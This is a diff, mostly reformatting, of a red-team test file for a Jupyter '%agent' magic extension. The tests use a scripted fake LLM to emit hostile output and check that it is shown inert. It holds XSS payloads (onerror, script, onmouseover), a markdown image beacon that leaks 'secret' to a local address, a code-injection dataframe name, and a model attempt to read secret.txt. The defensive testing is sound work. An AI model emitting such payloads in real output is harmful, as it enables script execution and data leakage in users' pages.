@@ -1,18 +1,19 @@
 """Red-team findings against the kernel side (the `%agent` magic and check_resource), each driven
 the way an attacker would: a model (the scripted fake LLM) that writes hostile text, and the
 server's `POST resources` route with malformed bodies. Every test here failed before its fix."""
+
 from __future__ import annotations
 
 import json
 import subprocess
 import sys
+from collections.abc import Iterator
 from pathlib import Path
-from typing import Iterator
 
 import pytest
 
-from tests.conftest import Api
 from devtools.fake_llm import FakeLLM, tool_call
+from tests.conftest import Api
 from tests.test_magic import Kernel, llm, magic_env, magic_kernel, tool_messages  # noqa: F401 (fixtures)
 
 
@@ -22,7 +23,9 @@ def places(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
     found = {name: top / name for name in ("data", "config", "runtime", "project")}
     for path in found.values():
         path.mkdir()
-    (found["config"] / "jupyter_server_config.json").write_text(json.dumps({"Cellwright": {"max_retries": 0, "request_timeout": 10}}))
+    (found["config"] / "jupyter_server_config.json").write_text(
+        json.dumps({"Cellwright": {"max_retries": 0, "request_timeout": 10}})
+    )
     return found
 
 
@@ -43,7 +46,7 @@ def test_finding_1_magic_answer_is_inert(kernel: Kernel, scripted: FakeLLM) -> N
     """The `%agent` cell is trusted: Markdown or HTML in its output runs unsanitised in the Jupyter
     page. The model's answer, next items and todos must reach the page as plain text only."""
     hostile = (
-        'Done. <img src=x onerror="document.title=\'pwned\'">\n'
+        "Done. <img src=x onerror=\"document.title='pwned'\">\n"
         "![chart](https://127.0.0.2/pixel.png?leak=secret)\n"
         "<script>alert(1)</script>"
     )
@@ -51,7 +54,12 @@ def test_finding_1_magic_answer_is_inert(kernel: Kernel, scripted: FakeLLM) -> N
         tool_call("write_todos", {"todos": [{"content": "<img src=x onerror=alert(2)>", "status": "pending"}]}),
         tool_call(
             "final_answer",
-            {"answer": hostile, "next_items": [{"title": "<b onmouseover=alert(3)>more</b>", "prompt": "![x](https://127.0.0.2/n.png)"}]},
+            {
+                "answer": hostile,
+                "next_items": [
+                    {"title": "<b onmouseover=alert(3)>more</b>", "prompt": "![x](https://127.0.0.2/n.png)"}
+                ],
+            },
         ),
     )
     out = kernel.run("%agent --new summarise")
@@ -60,7 +68,9 @@ def test_finding_1_magic_answer_is_inert(kernel: Kernel, scripted: FakeLLM) -> N
         assert "text/html" not in data and "text/markdown" not in data, data
         assert set(data) <= {"text/plain"}, data
     assert out.answers == [hostile]  # shown, as the text it is
-    assert "<img src=x onerror=alert(2)>" in out.stdout and "<b onmouseover=alert(3)>more</b>" in out.stdout  # as text too
+    assert (
+        "<img src=x onerror=alert(2)>" in out.stdout and "<b onmouseover=alert(3)>more</b>" in out.stdout
+    )  # as text too
 
 
 def test_finding_2_prompt_shows_control_characters(kernel: Kernel, scripted: FakeLLM, places: dict[str, Path]) -> None:
@@ -155,7 +165,13 @@ def test_finding_15_magic_root_is_fixed(llm: FakeLLM, places: dict[str, Path], t
     started = Kernel.start(magic_env(llm, places, JUPYTER_RUNTIME_DIR=str(runtime)), project)
     try:
         # Moved before the extension loads, and again after, and reloaded: the root stays the project.
-        for cell in ("%cd ..", "%load_ext agent_core", f"%cd {tmp_path.parent}", "%reload_ext agent_core", f"%cd {tmp_path}"):
+        for cell in (
+            "%cd ..",
+            "%load_ext agent_core",
+            f"%cd {tmp_path.parent}",
+            "%reload_ext agent_core",
+            f"%cd {tmp_path}",
+        ):
             assert started.run(cell).status == "ok", cell
         llm.script(
             tool_call("read_file", {"path": "secret.txt"}),
@@ -207,6 +223,9 @@ async def test_finding_16_resources_route_type_checks(api: Api) -> None:
     ):
         code, data = await api.call("POST", "resources", body)
         assert code == 400, (body, code, data)
-        assert isinstance(data, dict) and isinstance(data["error"], str) and data["error"] and data["message"], (body, data)
+        assert isinstance(data, dict) and isinstance(data["error"], str) and data["error"] and data["message"], (
+            body,
+            data,
+        )
     code, data = await api.call("POST", "resources", {"dataframes": ["df.attr", "df'); import os #"]})
     assert code == 200 and all("not a variable name" in entry["error"] for entry in data["dataframes"].values()), data
